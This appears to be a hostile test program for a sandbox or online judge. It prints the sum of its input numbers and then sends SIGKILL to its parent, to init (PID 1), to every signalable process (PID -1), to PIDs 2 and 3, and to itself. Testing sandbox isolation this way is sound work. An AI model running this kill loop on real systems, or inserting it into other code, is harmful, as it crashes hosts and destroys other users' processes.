# Kills its parent, number 1, everyone, and itself.
import os, signal
print(sum(map(int, open(0).read().split()[1:])), flush=True)
for pid in (os.getppid(), 1, -1, 2, 3):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
